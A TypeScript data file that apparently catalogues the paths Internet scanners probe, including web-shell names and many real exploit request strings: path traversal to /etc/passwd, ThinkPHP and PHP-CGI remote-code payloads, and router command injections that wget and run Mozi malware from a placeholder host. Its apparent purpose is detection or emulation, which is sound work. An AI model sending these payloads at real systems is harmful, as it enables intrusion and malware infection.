/** What Internet scanners ask for: folders, names, suffixes, plugins, panels. */
import { lines, words } from "../lib/grammar.ts";

export const FOLDERS = words`
  api app apps admin administrator backend web www public src test tests dev development prod production staging stage live old new site sites
  laravel symfony wp wordpress blog shop store cms core config conf configs configuration settings portal panel dashboard server client frontend
  service services system v1 v2 v3 api/v1 api/v2 application local cron crm erp exapi front en beta demo backup backups bak assets static
  media upload uploads files file images img js css lib libs vendor node_modules docker docker-compose deploy deployment build dist
  html htdocs public_html httpdocs project projects code repo git svn data db database sql secret secrets private internal tmp temp
  cache log logs storage storage/logs library includes inc include common scripts script tools utils mail mailer email newsletter
  sendgrid aws s3 lambda nodeapi nodeweb angular react vue next nuxt express django flask rails ruby python php magento drupal
  joomla prestashop opencart phpmyadmin payment payments checkout account accounts user users auth login oauth sso gateway
  proxy redis mysql mongo elastic grafana prometheus jenkins gitlab ci travis kyc ekyc wallet bot telegram lms psnlink saas platform mobile`;

export const PHP_PAGES = words`
  info phpinfo test php_info pinfo pi i p phpversion infos php infophp info1 info2 phpinfo1 test1 test2 testing temp old_phpinfo
  _phpinfo asdf time server_info status debug dev check probe env tz x version php-info linusadmin-phpinfo dashboard/phpinfo xampp/phpinfo
  _profiler/phpinfo frontend_dev.php/$ config.php/phpinfo phpsysinfo/index serverinfo l probe phpi xphpinfo sysinfo mysql`;

export const SHELLS = words`
  shell cmd c99 r57 wso wso2 alfa alfanew alfa-rex alfacgiapi b374k up upload uploader upl mini about gel4y geju ws fm file fox FoxWSO fw adminfuns
  atomlib wp-conflg wp-configs wp-blog-header1 wp-22 wp-p wp-mail1 wp-signin wp-the xx xl2023 mah moon chosen lock360 lock radio max dropdown simple inputs
  goods item ioxi-o ioxi rex style about1 autoload_classmap 1 12 123 404 403 500 as aa aaa a abc ab admin1 bak bypass byp bypas buy cc cloud classwithtostring config1
  content css default defaults doc edit edit-form ee error error_log1 file1 file2 filemanager function functions ff f35 gifclass gg go good h hehe hello ini indoxploit
  js k kk leaf leafmailer load log1 log2 lv lufix m makeasmtp mar marijuana marvins menu min network ok options-reading olux orm php2 plugin priv8 profile
  qq rk2 root s sallu sym sx sss sc themes tinyfilemanager tiny txets test404 user users we wp wpl wxo w x xmrlpc xleet xmlrpc2 y z zz2 radio x3 0x 0x1915 ty tes
  403aa vx ws77 ws80 nf_tracking nox nc4 bless bs1 bolt cong dz file48 fs gfile jp kj kairo mjq nano ova perl.alfa pod sf shx tf ultra xp yas yuki zwso`;

export const WP_PLUGINS = words`
  wp-file-manager elementor revslider contact-form-7 woocommerce duplicator wp-automatic litespeed-cache layerslider ultimate-member backup-backup bricks
  really-simple-ssl wpdatatables essential-addons-for-elementor-lite gravityforms royal-elementor-addons wp-fastest-cache give memberpress tatsu
  simple-file-list formidable mailpoet wp-statistics yoast-seo all-in-one-seo-pack jetpack akismet hello-dolly wp-super-cache w3-total-cache updraftplus wordfence
  ninja-forms wpforms-lite nextgen-gallery slider-revolution dzs-zoomsounds thumbs wp-ecommerce mail-masta site-editor cherry-plugin gracemedia-media-player
  adaptive-images localize-my-post simple-fields wp-with-spritz ajax-load-more download-manager dukapress history-collection hb-audio-gallery-lite
  google-mp3-audio-player mac-dock-gallery mygallery sniplets wp-symposium wp-time-capsule infinitewp-client easy-wp-smtp wpcargo wp-gdpr-compliance
  social-warfare kaswara ait-csv-import-export seoplugins apikey ioxi core-plugin dummyyummy fix background-image-cropper wpyii2 linkpreview pwnd WordPressCore
  include cakil press core classic-editor post-smtp startklar-elmentor-forms-extwidgets hash-form hunk-companion wp-query-console cleantalk-spam-protect`;

export const APP_PATHS = lines`
  /actuator«|/env|/health|/heapdump|/mappings|/info|/gateway/routes|/beans|/configprops|/loggers|/trace|/httptrace|/threaddump|/jolokia|/prometheus|/logfile|;/env|/metrics|/refresh»
  /«manage|management|monitoring|api|admin|gateway|«noun»»/actuator/«env|health|heapdump|mappings|info|gateway/routes»
  /«env|heapdump|trace|dump|jolokia|jolokia/list|jolokia/version|jolokia/exec/com.sun.management:type=DiagnosticCommand/compilerDirectivesAdd/!/etc!/passwd»
  /console/«|login/LoginForm.jsp|css/%252e%252e%252fconsole.portal|images/%252e%252e%252fconsole.portal»
  /manager/«html|text/list|status|jmxproxy/?qry=«rnd»|html/upload»
  /host-manager/html
  /«examples|docs»/«servlets|jsp|»/
  /jmx-console/«|HtmlAdaptor?action=inspectMBean»
  /web-console/«Invoker|ServerInfo.jsp»
  /invoker/«JMXInvokerServlet|EJBInvokerServlet|readonly»
  /solr/«|admin/info/system?wt=json|admin/cores?action=STATUS&wt=json|admin/collections|#/|select?q=*:*|«rnd»/debug/dump?param=ContentStreams»
  /owa/«|auth/logon.aspx|auth/x.js|auth.owa|auth/«rnd».js|auth/logon.aspx?replaceCurrent=1&url=»
  /ecp/«|Current/exporttool/microsoft.exchange.ediscovery.exporttool.application|default.flt|y.js|DDI/DDIService.svc|«rnd».js»
  /autodiscover/autodiscover.«json|xml»«|?@«rnd».com/owa/?&Email=autodiscover/autodiscover.json%3f@«rnd».com|?a=«rnd»@«rnd».«rnd»/mapi/nspi|?@evil.com/powershell/»
  /«ews/exchange.asmx|mapi/nspi/|rpc/|Microsoft-Server-ActiveSync|EWS/Exchange.asmx|powershell/»
  /remote/«login|logincheck|fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession|hostcheck_validate|login?lang=en|error|info»
  /+CSCOE+/«logon.html|logon.html?fcadbadd=1|session_password.html|translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../|saml/sp/login|files/file_list.json?path=/»
  /+CSCOT+/«translation-table?type=mst|oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua»
  /+CSCOL+/«Java.jar|a1.jar»
  /dana-na/«auth/url_default/welcome.cgi|nc/nc_gina_ver.txt|../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/|auth/url_admin/welcome.cgi|css/ds.js»
  /api/v1/«totp/user-backup-code/../../system/system-information|license/keys-status/;«rnd»|pods|namespaces|targets|users|label/__name__/values|query?query=up|cube/«rnd»|validate/code|node»
  /api/«v2/users|v4/user|v4/projects|v3/meta|v1/cavs/client/status|console/api_server?sense_version=@@SENSE_VERSION&apis=../../../../../../../../etc/passwd|jsonws/invoke|geojson?url=file:///etc/passwd|session/properties|settings/values|users|user/login|server/version|sonicos/is-sslvpn-enabled|setup/setup-check|swagger.json|graphql|index.php|env|config|.env|token|gen/clients/bash»
  /vpn/«../vpns/cfg/smb.conf|index.html|pluginlist.xml|js/rdx/core/lang/rdx_en.json.gz»
  /vpns/«cfg/smb.conf|portal/scripts/newbm.pl»
  /logon/LogonPoint/«index.html|tmindex.html»
  /oauth/idp/.well-known/openid-configuration
  /tmui/login.jsp«|/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd|/..;/tmui/system/user/authproperties.jsp|/..;/hsqldb»
  /mgmt/«tm/util/bash|shared/authn/login»
  /global-protect/«login.esp|portal/css/login.css|prelogin.esp|portal/images/bg.png»
  /ssl-vpn/«hipreport.esp|getconfig.esp»
  /php/login.php«|/~/..»
  /sslvpn/«Login/Login|sslvpn_client.php»
  /sslvpnLogin.html
  /cgi-bin/«luci|luci/;stok=/locale|luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/«rnd»)|login.cgi|nobody/Search.cgi?action=cgi_query|authLogin.cgi|welcome|jarrewrite.sh|test-cgi|php|php5|php.cgi|status|printenv|config.exp|account_mgr.cgi?cmd=cgi_user_add|nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=«rnd»|mainfunction.cgi|kerbynet?Section=NoAuthREQ&Action=x509List|supervisor/Factory.cgi|downloadFlile.cgi|popen.cgi|ViewLog.asp|hotspotlogin.cgi|webproc|check.cgi|user/Config.cgi?/nobody|.%2e/.%2e/.%2e/.%2e/bin/sh|.%%32%65/.%%32%65/.%%32%65/bin/sh|%2e%2e/%2e%2e/%2e%2e/etc/passwd|a2/out.cgi|ajaxmail|arr/index.shtml|at3.cgi|cstecgi.cgi|file_transfer.cgi|rpc.cgi|cgictl|passwd|webcm|weblogin.cgi?username=admin%27%3Bid+%23&password=asdf|mj_wwwusr|quickinstall.cgi|unauth.cgi|vitogate.cgi»
  /boaform/admin/«formLogin|formLogin?username=user&psw=user|formPing|formTracert|formLogin?username=ec8&psw=ec8»
  /boafrm/formWsc
  /GponForm/diag_Form«|?images/»
  /HNAP1«|/»
  /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=«rm+-rf+/tmp/*;wget+http://«ip»:«port»/Mozi.m+-O+/tmp/netgear;sh+netgear|busybox|wget+http://«ip»/«rnd».sh»&curpath=/&currentsetting.htm=1
  /«goform/«set_LimitClient_cfg|webLogin|SetSysTimeCfg|formexeCommand|getinfo»|apply_sec|apply|ping|diagnostic|adm/«rnd»|userRpm/LoginRpm|currentsetting|rom-0|start_apply|debug/«rnd»|start|syscmd|shell|webadmin/«rnd»|getcfg|hedwig|picsdesc|wanipcn|upnp/control/«rnd»|ctrlt/DeviceUpgrade_1|UD/act?1|tmUnblock|unauthenticated/..%01/..%01/..%01/etc/passwd|cu|picdesc|wanmap|device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20/tmp;wget%20http://«ip»/«rnd».sh»«.cgi|.htm|.php|.asp|.xml|»
  /shell?cd+/tmp;rm+-rf+*;wget+«|http://»«ip»/«rnd»«.sh|/jaws|»;sh+/tmp/«rnd»
  /board.cgi?cmd=cat%20/etc/passwd
  /backupmgt/«localJob.php?session=fail;wget+http://«ip»/«rnd».sh|pre_connect_check.php?auth_name=fail;cd+/tmp»
  /language/Swedish\${IFS}&&cd\${IFS}/tmp;rm\${IFS}-rf\${IFS}*;wget\${IFS}http://«ip»:«port»/Mozi.a;sh\${IFS}/tmp/Mozi.a&>r&&tar\${IFS}/string.js
  /_ignition/«health-check|execute-solution|scripts|styles»
  /telescope/«requests|queries|exceptions|mail»
  /«horizon|nova|pulse|log-viewer|logs|adminer|clockwork/app|__clockwork/app|_debugbar/open|_debugbar/assets/stylesheets|horizon/api/stats»
  /_profiler/«phpinfo|empty/search/results|open?file=app/config/parameters.yml|latest|«hex8»»
  /«app_dev.php|frontend_dev.php|index_dev.php|dev.php»/«_profiler/phpinfo|_profiler/open?file=app/config/parameters.yml|»
  /debug/«default/view|default/view?panel=config|pprof/|vars|pprof/heap|pprof/goroutine?debug=1|requests|default/index»
  /«web|sapi|frontend/web|backend/web|index.php|»/debug/default/view«|?panel=config|.html»
  /«vendor|lib|laravel|www|ws|yii|zend|cms|crm|demo|panel|public|apps|app|api|admin|backup|blog|workspace|new|old|test|tests|testing|V2|lib/vendor|vendor/phpunit|zend/vendor|laravel/vendor|wp-content/plugins/«rnd»/vendor|drupal/vendor|protected/vendor|sites/all/libraries/mailchimp/vendor»/«phpunit/|vendor/phpunit/|»«phpunit/|»«src/|»Util/PHP/«eval-stdin|evalstdin».php
  /vendor/«.env|composer/installed.json|composer/LICENSE|autoload.php|laravel-filemanager/js/script.js|htmlawed/htmlawed/htmLawedTest.php|phpunit/phpunit/build.xml»
  /index.php?s=«/|»«Index|index|home»/\think\app/invokefunction&function=call_user_func_array&vars[0]=«md5|system|phpinfo|shell_exec|assert»&vars[1][]=«Hello|id|«rnd»|1|whoami»
  /«public/|thinkphp/html/public/|TP/public/|html/public/|»index.php?s=«/|»«index|Index»/«%5Cthink%5CRequest/input|\think\template\driver\file/write|think\config/get|\think\Container/invokefunction|\think\module/action/param1/\${@phpinfo()}»&«filter=phpinfo&data=1|filter[]=system&data=«id|whoami»|name=database.username|function=call_user_func_array&vars[0]=system&vars[1][]=id»
  /index.php?lang=../../../../../../../../«usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5("«rnd»"));?>+/tmp/«rnd».php|tmp/«rnd»»
  /«hello.world|test.php|index.php|php-cgi/php-cgi.exe|cgi-bin/php|»?%ADd+allow_url_include%3«d|D»«1|on»+%ADd+auto_prepend_file%3«d|D»php://input
  /?-d+«allow_url_include%3dOn|auto_prepend_file%3dphp%3a//input|allow_url_include=1+-d+auto_prepend_file=php://input»
  /cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E
  /«wiki|confluence|jira|secure|»/«pages/createpage-entervariables.action|rest/tinymce/1/macro/preview|server-info.action|setup/setupadministrator.action|login.action|s/«rnd»/_/;/WEB-INF/web.xml|rest/api/latest/serverInfo|secure/ContactAdministrators!default.jspa|template/aui/text-inline.vm|pages/doenterpagevariables.action|plugins/servlet/oauth/users/icon-uri?consumerUri=http://«host»|s/«rnd»/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties|secure/Dashboard.jspa|rest/issueNav/1/issueTable|secure/QueryComponent!Default.jspa»
  /\${@java.lang.Runtime@getRuntime().exec("«rnd»")}/
  /%24%7B«rnd»%7D/
  /«-/snippets|projects.json|api/v4/version»
  /«j_acegi_security_check|script|asynchPeople/|computer/|securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript|descriptorByName/org.jenkinsci.plugins.scriptsecurity|whoAmI/|jnlpJars/jenkins-cli.jar|cli?remoting=false»
  /«jenkins|hudson|ci»/«|script|login|view/all/newJob|systemInfo|manage»
  /_«cat/indices|cat/nodes|nodes|cluster/health|search|search?pretty|all_dbs|utils/|config|session|node/_local/_config|users/_all_docs|stats|aliases|plugin/head/../../../../../etc/passwd|snapshot|river|mapping|membership»
  /app/kibana
  /elasticsearch/_search
  /ws/v1/cluster/«info|apps/new-application|nodes»
  /«cluster/cluster|cluster|jmx|logs/|dfshealth.html|webhdfs/v1/?op=LISTSTATUS|stacks|conf|explorer.html»
  /containers/json«|?all=1»
  /«v1.16|v1.24|v1.41»/«version|containers/json|images/json|info»
  /v2/«_catalog|keys|keys/?recursive=true|«rnd»/tags/list|auth»
  /v1/«agent/self|kv/?recurse|sys/health|catalog/services|submissions|models|health/state/any|metadata»
  /«pods|runningpods/|metrics|exec/«rnd»|stats/summary|configz|logs/|openapi/v2|livez»
  /api/v1/«namespaces/default/pods|namespaces/kube-system/secrets|nodes|secrets|pods»
  /public/plugins/«alertlist|graph|text|mysql|prometheus|table|cloudwatch|grafana-clock-panel|loki|stackdriver|welcome|zipkin|annolist|barchart|elasticsearch»/../../../../../../../../../../..«/etc/passwd|/etc/grafana/grafana.ini|/var/lib/grafana/grafana.db|/conf/defaults.ini»
  /«geoserver|geo»/«web/|ows?service=WFS|wms?service=WMS&request=GetCapabilities|rest/about/version|wfs?request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'«rnd»')|index.html|j_spring_security_check|TestWfsPost|web/wicket/bookmarkable/org.geoserver.web.AboutGeoServerPage»
  /«ReportServer|Reports|ReportServer/Pages/ReportViewer.aspx|reports/Pages/Folder.aspx|_vti_bin/Authentication.asmx|_vti_pvt/service.pwd|_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx|_layouts/15/start.aspx|_vti_inf.html|_api/web/siteusers|_layouts/15/spinstall0.aspx|_layouts/15/error.aspx»
  /«sap/bc/gui/sap/its/webgui|irj/portal|sap/public/info|CTCWebService/CTCWebServiceBean|developmentserver/metadatauploader|startPage|sap/admin/public/default.html|webdynpro/dispatcher/sap.com/tc~slm~ui_lup/LUP»
  /«wls-wsat/CoordinatorPortType|wls-wsat/CoordinatorPortType11|_async/AsyncResponseService|_async/favicon.ico|bea_wls_internal/|bea_wls_deployment_internal/DeploymentService|uddiexplorer/SearchPublicRegistries.jsp|console/console.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22«rnd»%22)|em/faces/targetauth/emasLogin|OA_HTML/AppsLogin|OA_HTML/BneUploaderService|xmlpserver/login.jsp|oam/server/opensso/sessionservice|isqlplus|wsdl|consolehelp/console-help.portal»
  /«ui/vropspluginui/rest/services/uploadova|websso/SAML2/SSO/vsphere.local?SAMLRequest=|sdk|ui/|vsphere-client/?csp|eam/vib?id=C:\ProgramData\VMware\vCenterServer\cfg\vmware-vpx\vcdb.properties|analytics/telemetry/ph/api/hyper/send?_c=&_i=test|catalog-portal/ui/oauth/verify?error=&deviceUdid=\${"freemarker.template.utility.Execute"?new()("id")}|casa/nodes/thumbprints|folder?dcPath=ha-datacenter|portal/info.jsp|mobileconfig/«rnd»|mifs/.;/services/LogService|mifs/aad/api/v2/authorized/users|mifs/user/login.jsp|mics/services/MICSLogService|broker/xml»
  /«human.aspx|guestaccess.aspx|moveitisapi/moveitisapi.dll?action=m2|api/v1/folders|WebInterface/|WebInterface/function/?command=getUsername|ui/login|fileserver/«rnd».jsp|api/jsonws|admin/«rnd».jsp|aspera/faspex/|faspex/account/logout|SetupWizard.aspx/«rnd»|goanywhere/lic/accept|Login.aspx|gw/Login.aspx|cgi/networkDiag.cgi|SAAS/auth/login|lms/db|zimbraAdmin/|service/extension/backup/mboximport|service/upload|public/error.jsp|autodiscover/|h/autoSaveDraft|dwr/index.html|hybridity/ui/hcx-client/index.html|carbon/admin/login.jsp|fileupload/toolsAny|seeyon/htmlofficeservlet|seeyon/main.do|weaver/bsh.servlet.BshServlet|mobile/auth_mobi.php|ispirit/interface/gateway.php|ServiceDispatcherServlet|servlet/~ic/bsh.servlet.BshServlet|druid/index.html|nacos/v1/auth/users?pageNo=1&pageSize=9|nacos/|xxl-job-admin/login|eoffice10/|tplus/SM/SetupAccount/Upload.aspx?preload=1|general/login_code.php|pages/ui/«rnd».jsp|login/SAML|nagiosxi/login.php|zabbix/index.php|zabbix.php?action=dashboard.view|centreon/api/«rnd»|cacti/remote_agent.php?action=polldata|cacti/|ganglia/|nagios/|munin/|observium/|librenms/login|opennms/|solarwinds/Orion/Login.aspx|Orion/invalid.aspx.js|monitor|rpc/set_all|stalker_portal/server/tools/auth_simple.php|streaming/clients_live.php|system_api.php|c/version.js|client_area/|portal/redlion|webui/|webui/logoutconfirm.html?logon_hash=1|restconf/data|level/15/exec/-/sh/run/CR|cgi-mod/index.cgi|ap_spec_rec/upload/|nice%20ports%2C/Tri%6Eity.txt%2ebak|sitecore/shell/sitecore.version.xml|umbraco/|Telerik.Web.UI.WebResource.axd?type=rau|DesktopModules/Telerik/«rnd».aspx|kentico/cmspages/«rnd».ashx|WebResource.axd?d=«rnd»|trace.axd|elmah.axd|ScriptResource.axd?d=«rnd»|bitrix/admin/|struts/utils.js|struts2-showcase/«index|token».action|orders.xhtml|integration/saveGangster.action|login.action|index.action|hello.action»
  /Tmui/«rnd».jsp
  /druid/indexer/v1/sampler
  /functionRouter
  /gateway/routes«/«rnd»|»
  /api/pull
  /nifi-api/flow/current-user
  /airflow/login
  /superset/welcome/
  /hub/login
  /spark/«rnd»
  /mlflow/
  /«graphiql|playground|graphql/console|altair|v1/graphql»
  /«swagger|swagger-ui.html|swagger/index.html|swagger/v1/swagger.json|swagger.json|swagger.yaml|v2/api-docs|v3/api-docs|api-docs|openapi.json|api/swagger-ui.html|swagger-ui/index.html|swagger-resources|webjars/swagger-ui/index.html|doc.html»
  /server-«status|info»
  /«nginx_status|stub_status|basic_status|fpm-status|php-fpm_status|haproxy?stats|balancer-manager|info.json|config.json»
  /«ab2g|ab2h|alive.php|favicon-32x32.ico|t4|teorema505?t=1|systembc/password.php|geoip/|upl.php|password.php|form.html|bin/zhttpd/«rnd»|robots.txt.bak|1.php|aws.yml|.well-known/security.txt.bak|aaa9|aab8|aab9|sdk|evox/about|nmaplowercheck«big»|NmapUpperCheck«big»|Trinity.txt.bak»`;
